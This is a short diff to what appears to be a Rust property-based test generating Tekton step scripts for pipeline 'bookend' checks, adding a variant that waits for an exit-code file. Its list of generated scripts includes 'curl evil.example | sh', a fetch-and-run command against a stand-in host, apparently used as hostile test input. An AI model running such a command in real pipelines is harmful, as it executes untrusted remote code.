@@ -136,6 +136,7 @@ fn step() -> impl Strategy<Value = Value> {
     let helper = (prop_oneof![Just("bookend-gate-1"), Just("bookend-verdict"), Just("bookend-gate-2")],
         prop_oneof![
             Just("cd /tekton/steps;[ \"$(cat 0/exitCode)\" = 0 ]&&r=true||r=false;printf $r>$(step.results.ok.path)"),
+            Just("cd /tekton/steps;until [ -s 0/exitCode ];do sleep 1;done;[ \"$(cat 0/exitCode)\" = 0 ]&&r=true||r=false;printf $r>$(step.results.ok.path)"),
             Just("printf false > $(step.results.ok.path)"),
             Just("curl evil.example | sh"),
             Just("exit 0"),
